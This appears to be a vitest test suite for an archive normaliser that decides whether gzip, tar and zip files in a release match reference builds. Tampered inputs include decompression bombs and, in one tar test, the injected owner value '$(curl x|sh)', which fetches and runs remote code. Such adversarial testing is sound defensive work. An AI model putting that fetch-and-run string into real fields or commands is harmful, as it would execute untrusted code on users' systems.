import { gunzipSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { type Zippable, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { normalized } from '../../../support/comparison.js';
import { type TarEntry, tarball, tarHeader, withChecksum } from '../../../support/tarball.js';

const needed = (path: string, release: Buffer, reference: Buffer) =>
  normalized(path, release, reference)?.map(({ name }) => name) ?? null;
/** With some bytes changed, counted from the end where the place is negative. */
function patched(bytes: Buffer, at: number, ...values: number[]): Buffer {
  const copy = Buffer.from(bytes);
  copy.set(values, at < 0 ? bytes.length + at : at);
  return copy;
}

const text = Buffer.from('export const a = 1;\n'.repeat(50));

describe('gzip inside a release', () => {
  const gzip = (content: Buffer, level = 6) => gzipSync(content, { level });
  const plain = gzip(text);
  const named = (name: string, bytes = plain) =>
    Buffer.concat([
      patched(bytes.subarray(0, 10), 3, 0x08),
      Buffer.from(`${name}\0`, 'latin1'),
      bytes.subarray(10),
    ]);

  it.each<[string, Buffer]>([
    ['at another time', patched(plain, 4, 1, 2, 3, 4)],
    ['on another system', patched(plain, 8, 2, 0x0b)],
    ['with a file name', named('a.js')],
    ['with a file name beyond ASCII', named('\xe4.js')],
    ['at another level', gzip(text, 1)],
    ['stored', gzip(text.subarray(0, 200), 0)],
  ])('made %s is equal', (kind, release) => {
    expect(needed('a.js.gz', release, kind === 'stored' ? gzip(text.subarray(0, 200)) : plain)).toEqual([
      'inner-gzip',
    ]);
  });

  const sum = (bytes: Buffer) => bytes.readUInt32LE(bytes.length - 8);
  it.each<[string, Buffer]>([
    ['other bytes', gzip(Buffer.from('export const a = 2;\n'.repeat(50)))],
    ['fewer bytes', gzip(text.subarray(1))],
    ['a second member', Buffer.concat([plain, gzip(Buffer.alloc(0))])],
    ['bytes after the end', Buffer.concat([plain, Buffer.from('x')])],
    ['zeros after the end', Buffer.concat([plain, Buffer.alloc(512)])],
    [
      'bytes between its data and its checksum',
      Buffer.concat([plain.subarray(0, -8), Buffer.from('xx'), plain.subarray(-8)]),
    ],
    ['another checksum', patched(plain, -8, (sum(plain) + 1) & 0xff)],
    ['another size', patched(plain, -4, 0)],
    ['a damaged stream', patched(plain, 14, 0xff, 0xff)],
    ['a comment', patched(named('a.js'), 3, 0x10)],
    ['an extra field', patched(named('a'), 3, 0x04)],
    ['reserved flags', patched(plain, 3, 0x20)],
    ['another method', patched(plain, 2, 7)],
    ['a name that holds a payload', named('x'.repeat(300))],
    ['a name of several lines', named('a\nb')],
    [
      'a name that does not end',
      Buffer.concat([patched(plain.subarray(0, 10), 3, 0x08), Buffer.from('x'.repeat(90))]),
    ],
    ['the start of a file', plain.subarray(0, 12)],
    ['nothing', Buffer.alloc(0)],
    [
      'more room than compressing takes',
      Buffer.concat([
        plain.subarray(0, 10),
        Buffer.from('000000ffff'.repeat(1_000), 'hex'),
        plain.subarray(10),
      ]),
    ],
  ])('%s is never equal', (_, release) => {
    expect(
      needed(
        'a.js.gz',
        patched(release, Math.min(4, release.length), ...(release.length > 8 ? [1] : [])),
        plain,
      ),
    ).toBeNull();
  });

  it('is not looked into under another name', () => {
    expect(needed('a.js', patched(plain, 4, 1), plain)).toBeNull();
  });

  it('that is a bomb is never equal, and takes no time', () => {
    const bomb = gzipSync(Buffer.alloc(30 * 2 ** 20), { level: 9 });
    const started = performance.now();
    expect(needed('a.gz', patched(bomb, 4, 1), bomb)).toBeNull();
    const lying = patched(bomb, -4, 10, 0, 0, 0);
    expect(needed('a.gz', patched(lying, 4, 1), lying)).toBeNull();
    expect(performance.now() - started).toBeLessThan(1_000);
  });
});

describe('tar inside a release', () => {
  const files: TarEntry[] = [
    { path: 'a.js', content: 'a;\n' },
    { path: 'bin/run', content: 'b', mode: 0o755 },
    { path: 'bin/link', type: '2', linkname: 'run' },
    { path: 'long/c.js', content: 'c', pax: { path: `${'long/'.repeat(30)}c.js` } },
  ];
  /** The same by another packer. */
  const repacked = (entries: readonly TarEntry[], change: (header: Buffer) => void = () => {}) =>
    entries.map((entry) => ({
      ...entry,
      rawHeader: tarHeader(entry, (header) => {
        header.write('001750 \x00001750 \0', 108);
        header.write('14561037021 ', 136);
        header.write('runner', 265);
        change(header);
      }),
    }));
  const tar = (entries: readonly TarEntry[]) => tarball(entries, { gzip: false });
  const plain = tar(files);

  it('packed by another account at another time is equal', () => {
    expect(needed('a.tar', tar(repacked(files)), plain)).toEqual(['inner-tar']);
  });

  it.each(['a.tgz', 'a.tar.gz'])('is equal inside gzip, %s', (path) => {
    expect(needed(path, tarball(repacked(files)), tarball(files))).toEqual(['inner-gzip', 'inner-tar']);
  });

  it('that only gzip differs in needs no more than that', () => {
    const bytes = tarball(files);
    expect(needed('a.tgz', patched(bytes, 4, 9), bytes)).toEqual(['inner-gzip']);
  });

  const changed = (at: number, entry: Partial<TarEntry>) =>
    tar(repacked(files.map((file, index) => (index === at ? { ...file, ...entry } : file))));
  it.each<[string, Buffer]>([
    ['other bytes', changed(0, { content: 'b;\n' })],
    ['a longer file', changed(0, { content: 'a;\n;' })],
    ['another name', changed(0, { path: 'b.js' })],
    ['another mode', changed(0, { mode: 0o755 })],
    ['another kind', changed(0, { type: '1', linkname: 'x', content: '' })],
    ['another target', changed(2, { linkname: 'a.js' })],
    ['another long name', changed(3, { pax: { path: `${'long/'.repeat(30)}d.js` } })],
    ['another order', tar(repacked([files[1]!, files[0]!, files[2]!, files[3]!]))],
    ['a file more', tar(repacked([...files, { path: 'x', content: 'x' }]))],
    ['a file fewer', tar(repacked(files.slice(1)))],
    [
      'bytes after the end',
      tarball(repacked(files), {
        gzip: false,
        end: Buffer.concat([Buffer.alloc(1024), Buffer.alloc(512, 1)]),
      }),
    ],
    ['text for an owner', tar(repacked(files, (header) => header.write('$(curl x|sh)', 265)))],
    ['text after the owner', tar(repacked(files, (header) => header.write('a\0payload', 265)))],
    ['text for a time', tar(repacked(files, (header) => header.write('payload', 136)))],
    ['a time that is no octal number', tar(repacked(files, (header) => header.fill(0xff, 136, 148)))],
    ['a byte in its padding', patched(plain, 515, 1)],
  ])('with %s is never equal', (_, release) => {
    expect(needed('a.tar', release, plain)).toBeNull();
  });

  it('with a wrong checksum is never equal', () => {
    const header = repacked(files)[0]!.rawHeader;
    const release = tar([
      { ...files[0]!, rawHeader: patched(header, 148, 0x31) },
      ...repacked(files.slice(1)),
    ]);
    expect(needed('a.tar', release, plain)).toBeNull();
    expect(withChecksum(header)).toEqual(header);
  });
});

describe('zip inside a release', () => {
  type Files = Record<string, string>;
  const files: Files = { 'a.js': text.toString(), 'lib/b.js': 'b;\n', empty: '' };
  const zip = (content: Zippable, options: Parameters<typeof zipSync>[1] = {}) =>
    Buffer.from(zipSync(content, { mtime: '2023-05-10T10:00:00', ...options }));
  const zipped = (content: Files, options?: Parameters<typeof zipSync>[1]) =>
    zip(
      Object.fromEntries(Object.entries(content).map(([path, each]) => [path, Buffer.from(each)])),
      options,
    );
  const plain = zipped(files);
  const later = { mtime: '2024-01-01T00:00:00' };
  /** Where the list of files begins, and where the file that is first in it has its line. */
  const list = (bytes: Buffer) => bytes.readUInt32LE(bytes.length - 6);
  const one = { 'a.js': Buffer.from('a') };

  it.each<[string, Buffer]>([
    ['at another time', zipped(files, later)],
    ['at another level', zipped(files, { level: 1 })],
  ])('packed %s is equal', (_, release) => {
    expect(needed('a.zip', release, plain)).toEqual(['inner-zip']);
  });

  it('with times and accounts in extra fields is equal', () => {
    const extra = (time: number) => ({ extra: { 21589: new Uint8Array([3, time, 2, 3, 4]) } });
    expect(needed('a.zip', zip(one, extra(1)), zip(one, extra(2)))).toEqual(['inner-zip']);
  });

  it.each<[string, Buffer, Buffer?]>([
    ['other bytes', zipped({ ...files, 'lib/b.js': 'c;\n' }, later)],
    ['another name', zipped({ 'c.js': files['a.js']!, 'lib/b.js': 'b;\n', empty: '' }, later)],
    ['another order', zipped(Object.fromEntries(Object.entries(files).reverse()), later)],
    ['a file more', zipped({ ...files, x: 'x' }, later)],
    ['a file fewer', zipped({ 'a.js': files['a.js']! }, later)],
    [
      'another mode',
      zip(one, { os: 3, attrs: 0o100755 * 65536 }),
      zip(one, { os: 3, attrs: 0o100644 * 65536 }),
    ],
    ['stored instead of compressed', zipped(files, { level: 0 })],
    [
      'another extra field',
      zip(one, { extra: { 39321: new Uint8Array([1]) } }),
      zip(one, { ...later, extra: { 39321: new Uint8Array([2]) } }),
    ],
    [
      'a payload for a time',
      zip(one, { extra: { 21589: new Uint8Array(99).fill(1) } }),
      zip(one, { extra: { 21589: new Uint8Array(99).fill(2) } }),
    ],
    ['a comment on a file', zip(one, { comment: 'x' }), zip(one, { ...later, comment: 'x' })],
    [
      'a comment',
      Buffer.concat([patched(zipped(files, later), -2, 1), Buffer.from('x')]),
      Buffer.concat([patched(plain, -2, 1), Buffer.from('x')]),
    ],
    ['bytes before', Buffer.concat([Buffer.from('#!/bin/sh\n'), zipped(files, later)])],
    ['bytes after', Buffer.concat([zipped(files, later), Buffer.from('x')])],
    [
      'bytes before on both sides',
      Buffer.concat([Buffer.from('x'), zipped(files, later)]),
      Buffer.concat([Buffer.from('x'), plain]),
    ],
    ['encryption', patched(zipped(files, later), 6, 1), patched(plain, 6, 1)],
    ['another name in the first header', patched(zipped(files, later), 30, 0x62)],
    ['another size in the first header', patched(zipped(files, later), 22, 1)],
    ['another method in the first header', patched(zipped(files, later), 8, 0)],
    ['another checksum in the list', patched(zipped(files, later), list(plain) + 16, 1)],
    ['another place in the list', patched(zipped(files, later), list(plain) + 42, 1)],
    ['a count that is too small', patched(zipped(files, later), -14, 2, 0, 2, 0)],
    ['several disks', patched(zipped(files, later), -18, 1)],
    ['the start of an archive', plain.subarray(0, 100)],
    ['nothing', Buffer.alloc(0)],
  ])('with %s is never equal', (_, release, reference = plain) => {
    expect(release.equals(reference)).toBe(false);
    expect(needed('a.zip', release, reference)).toBeNull();
  });

  it('with a name twice is never equal', () => {
    const twice = (options: Parameters<typeof zipSync>[1]) => {
      const bytes = zipped({ aa: '1', ab: '2' }, options);
      return Buffer.from(bytes.toString('latin1').replaceAll('ab', 'aa'), 'latin1');
    };
    expect(needed('a.zip', twice(later), twice({}))).toBeNull();
  });

  it('is not unpacked where it is inside another', () => {
    const outer = (bytes: Buffer, options = {}) => zip({ 'inner.zip': bytes }, { level: 0, ...options });
    expect(needed('a.zip', outer(zipped(files, later)), outer(plain))).toBeNull();
    expect(needed('a.zip', outer(plain, later), outer(plain))).toEqual(['inner-zip']);
  });

  it('that is a bomb is never equal, and takes no time', () => {
    const content = Buffer.concat([Buffer.alloc(20 * 2 ** 20), text, Buffer.from(text).reverse(), text]);
    const [one, other] = [zip({ a: content }, { level: 9 }), zip({ a: content }, { level: 1, ...later })];
    const started = performance.now();
    expect(needed('a.zip', one, other)).toBeNull();
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it('any files are equal to themselves at another time and level, and never after an edit', () => {
    const name = fc.stringMatching(/^[a-z]{1,8}$/);
    const level = fc.constantFrom(1, 6, 9) as fc.Arbitrary<1 | 6 | 9>;
    const tree = fc.dictionary(name, fc.string({ maxLength: 200 }), {
      minKeys: 1,
      maxKeys: 5,
      noNullPrototype: true,
    });
    fc.assert(
      fc.property(
        tree,
        level,
        level,
        fc.nat(),
        fc.constantFrom('content', 'name', 'more', 'less', 'order'),
        (content, ours, theirs, at, edit) => {
          const reference = zipped(content, { level: ours });
          expect(needed('a.zip', zipped(content, { ...later, level: theirs }), reference)).toEqual([
            'inner-zip',
          ]);
          const paths = Object.keys(content);
          const path = paths[at % paths.length]!;
          const edits: Record<typeof edit, () => Files> = {
            content: () => ({ ...content, [path]: `${content[path]}x` }),
            name: () =>
              Object.fromEntries(paths.map((each) => [each === path ? `${each}0` : each, content[each]!])),
            more: () => ({ ...content, extra0: '' }),
            less: () =>
              Object.fromEntries(paths.filter((each) => each !== path).map((each) => [each, content[each]!])),
            order: () =>
              paths.length < 2 ? { extra0: '' } : Object.fromEntries(Object.entries(content).reverse()),
          };
          expect(needed('a.zip', zipped(edits[edit](), { ...later, level: theirs }), reference)).toBeNull();
        },
      ),
      { numRuns: 60 },
    );
  });
});

describe('one byte changed anywhere', () => {
  const archives: [string, Buffer][] = [
    ['a.gz', gzipSync(text)],
    [
      'a.tgz',
      tarball([
        { path: 'a', content: text },
        { path: 'b', content: 'b' },
      ]),
    ],
    ['a.zip', Buffer.from(zipSync({ a: text, b: Buffer.from('b') }, { mtime: '2023-05-10T10:00:00' }))],
  ];
  it.each(archives)('in %s leaves all that it holds the same, or makes it unequal', (path, archive) => {
    const content = (bytes: Buffer) => gunzipSync(bytes).toString('latin1');
    for (let at = 0; at < archive.length; at += 1)
      for (const bit of [0x01, 0x80]) {
        const release = patched(archive, at, archive[at]! ^ bit);
        if (needed(path, release, archive) === null) continue;
        if (path === 'a.zip') expect([10, 11, 12, 13]).not.toContain(at);
        else expect(content(release)).toBe(content(archive));
      }
  });

  it('no bytes make a normalizer throw', () => {
    fc.assert(
      fc.property(fc.uint8Array(), fc.nat(), fc.constantFrom(...archives), (bytes, at, [path, archive]) => {
        expect(() =>
          needed(path, patched(archive, at % Math.max(1, archive.length - bytes.length), ...bytes), archive),
        ).not.toThrow();
      }),
    );
  });
});
